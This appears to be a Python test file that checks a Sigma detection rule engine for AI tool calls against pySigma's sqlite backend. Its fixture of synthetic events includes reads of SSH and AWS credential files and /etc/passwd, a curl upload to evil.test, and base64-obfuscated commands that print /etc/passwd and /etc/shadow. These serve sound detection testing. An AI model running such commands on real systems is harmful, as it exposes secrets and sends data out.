"""The corpus gives the same hits as pySigma's sqlite backend over the same events."""

from __future__ import annotations

import re
import sqlite3
from collections.abc import Iterator, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml
from sigma.backends.sqlite import sqliteBackend
from sigma.collection import SigmaCollection

from triptych.models.detections.engine import Memory
from triptych.models.detections.engine.sightings import Sighting
from triptych.models.events import Call, Principal
from triptych.models.sigma import SigmaRules
from triptych.models.sigma.fields import ALIASES, FIELDS, FlatEvent, Value, events, texts
from triptych.models.sigma.reading import read_texts
from triptych.models.sigma.windows import occurrences
from triptych.models.testing import START_NS, call, connect, effect, exec_, read, send, turn, write

HERE = Path(__file__).parent
CORPUS = (HERE / "corpus.yml").read_text()
CORRELATIONS = (HERE / "correlations.yml").read_text()
TITLES = [document["title"] for document in yaml.safe_load_all(CORPUS)]
COUNTED = [document["title"] for document in yaml.safe_load_all(CORRELATIONS) if "correlation" in document]


def _story() -> Iterator[Call]:
    bob, cy = Principal(kind="token", id="bob"), Principal(kind="token", id="cy", executable="ann")
    yield call(
        "read_config",
        read("/home/ann/.aws/credentials", 0.1),
        read("/home/ann/id_rsa", 0.2),
        read("/home/ann/ID_DSA", 0.3),
        read("/srv/Data.json", 0.4, declared=True),
        read("/srv/a*b", 0.5),
        read("/srv/aXb", 0.6),
        read("/srv/100%_sure", 0.7),
        read("/srv/100x_sure", 0.7),
        read("/srv/win\\dir", 0.8),
        connect("203.0.113.7:443", 0.9),
    )
    yield call(
        "send_report",
        send("198.51.100.66:9911", 400_000, 10.1),
        send("198.51.100.200:80", 1_200, 10.2),
        connect("10.1.2.3:22", 10.3),
        connect("[2001:db8::7]:443", 10.4),
        connect("169.254.169.254:80", 10.5),
        effect("connect", 10.6, address="203.0.113.9", port=8443, result=-13),
        at_s=10,
        is_error=True,
        error_code=-32602,
        response_size=4_000,
    )
    yield call(
        "run_query",
        exec_("/usr/bin/curl", "--upload", "x", "https://evil.test/", at_s=12.1),
        exec_("/usr/bin/curl", "-d", "@x", "https://ok.test/", at_s=12.2),
        exec_("/bin/tool", "/upload ", "x", at_s=12.3),
        exec_("/bin/sh", "-c", "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d", at_s=12.4),
        exec_("/bin/sh", "-c", "echo eCAvZXRjL3NoYWRvdw== | base64 -d", at_s=12.5),
        exec_("/bin/sh", "-c", "echo YwBhAGwAYwA= | base64 -d", at_s=12.6),
        exec_("/bin/sh", "-c", "curl\nhttps://evil.test", at_s=12.7),
        at_s=12,
        principal=bob,
        server="db",
        response_size=1_100,
    )
    yield call("python3", read("/etc/passwd", 20.1), read("/srv/key.pem", 20.2), at_s=20, principal=bob, is_error=True)
    yield call("python3x", write("/tmp/out.json", 24.1), at_s=24, principal=bob, response_size=2_400)
    yield call("", at_s=25, method="tools/list", principal=bob, server="db")
    yield call("send_mail", send("203.0.113.9:25", 10, 26.1), at_s=26, principal=bob)
    yield call("read_config", at_s=33, response_size=900)
    yield call("READ_CONFIG", at_s=41, response_size=2_600, is_error=True)
    yield call("send_mail", at_s=70, principal=cy, response_size=300)
    yield call("send_mail", at_s=75, response_size=10)
    yield call("read_config", at_s=75, is_error=True, server="db")


TURN = turn(*_story())


def _column(value: Value) -> object:
    """As a flattener stores it. Lists have no column of their own and stay out."""
    if isinstance(value, tuple) or value is None:
        return None
    return str(value).lower() if isinstance(value, bool) else value


@pytest.fixture(scope="module")
def database() -> Iterator[sqlite3.Connection]:
    base = sqlite3.connect(":memory:")
    base.create_function("REGEXP", 2, lambda pattern, text: text is not None and bool(re.search(pattern, str(text))))
    for category, fields in FIELDS.items():
        names = [*sorted(fields), *(alias for alias, name in ALIASES.items() if name in fields)]
        quoted = ", ".join(f"`{name}`" for name in names)
        base.execute(f"CREATE TABLE {category} (id INTEGER, timestamp REAL, fulltext TEXT, {quoted})")
        for number, (subject, event) in enumerate(events(TURN, category)):
            row = [_column(event[ALIASES.get(name, name)]) for name in names]
            full = "\n".join(text for value in event.values() for text in texts(value))
            row = [number, (subject.start_ns - START_NS) / 1e9, full, *row]
            base.execute(f"INSERT INTO {category} VALUES ({', '.join('?' * len(row))})", row)  # noqa: S608
    yield base
    base.close()


def _backend(category: str) -> sqliteBackend:
    return sqliteBackend(
        table=category, collate_nocase=True, fulltext_field="fulltext", event_id_field="id", timestamp_format="unix"
    )


def _rows(database: sqlite3.Connection, queries: Sequence[Any]) -> set[int]:
    return {row[0] for query in queries for row in database.execute(query)}


@pytest.mark.parametrize("title", TITLES)
def test_a_rule_hits_what_the_sqlite_backend_selects(title: str, database: sqlite3.Connection) -> None:
    document = next(one for one in yaml.safe_load_all(CORPUS) if one["title"] == title)
    category = document["logsource"]["category"]
    wanted = _rows(database, _backend(category).convert(SigmaCollection.from_yaml(yaml.safe_dump(document))))
    ([one], _) = read_texts([(HERE / "corpus.yml", yaml.safe_dump(document))])
    found = {number for number, (_, event) in enumerate(events(TURN, category)) if one.matches(event)}
    assert found == wanted
    assert 0 < len(found) < len(list(events(TURN, category))), "a rule that hits nothing, or everything, proves nothing"


@pytest.mark.parametrize("title", COUNTED)
def test_a_correlation_holds_in_the_windows_of_the_sqlite_backend(title: str, database: sqlite3.Connection) -> None:
    wanted = _windows_of_sqlite(title, database)
    assert _windows_of_ours(title, TURN.calls) == wanted
    assert _windows_of_ours(title, TURN.calls[::-1]) == wanted, "the order of arrival changes nothing"
    assert wanted, "a correlation that never holds proves nothing"


def _windows_of_sqlite(title: str, database: sqlite3.Connection) -> set[tuple[Any, ...]]:
    documents = [one for one in yaml.safe_load_all(CORRELATIONS) if "correlation" not in one or one["title"] == title]
    queries = _backend("call").convert(SigmaCollection.from_yaml(yaml.safe_dump_all(documents)))
    found = set()
    for row in database.execute(queries[-1]):
        groups = tuple(yaml.safe_load(row[1]).values())
        found.add((groups, round(row[2], 3), round(row[6], 3)))
    return found


def _windows_of_ours(title: str, calls: Sequence[Call]) -> set[tuple[Any, ...]]:
    plains, counted = read_texts([(HERE / "correlations.yml", CORRELATIONS)])
    one = next(one for one in counted if one.rule.title == title)
    rules, memory = SigmaRules(plains, [one]), Memory()
    additions = [addition for call_ in calls for addition in rules.additions(call_)]
    for addition in additions:
        memory.add(addition)
    return {
        (tuple(filter(None, addition.place.entity.split("\0"))), _seconds(found.end_us), round(found.metric, 3))
        for addition in additions
        for found in occurrences(
            one.correlation, memory.add(addition), [Sighting(at_us, *key) for key, at_us in addition.members.items()]
        )
    }


def _seconds(at_us: int) -> float:
    return round((at_us - START_NS // 1000) / 1e6, 3)


def test_the_corpus_is_read_as_one_folder(tmp_path: Path) -> None:
    for name in ("corpus.yml", "correlations.yml"):
        (tmp_path / name).write_text((HERE / name).read_text())
    hits = SigmaRules.load([tmp_path]).evaluate(TURN)
    assert "Equality ignores case" in {hit.rule.title for hit in hits}
    assert "any call" not in {hit.rule.title for hit in hits}, "what only a correlation counts is no finding"


def test_an_event_reads_only_what_is_asked() -> None:
    ((_, event), *_) = events(TURN, "call")
    assert isinstance(event, FlatEvent)
    assert isinstance(event, Mapping)
    assert event["gen_ai.tool.name"] == "read_config"
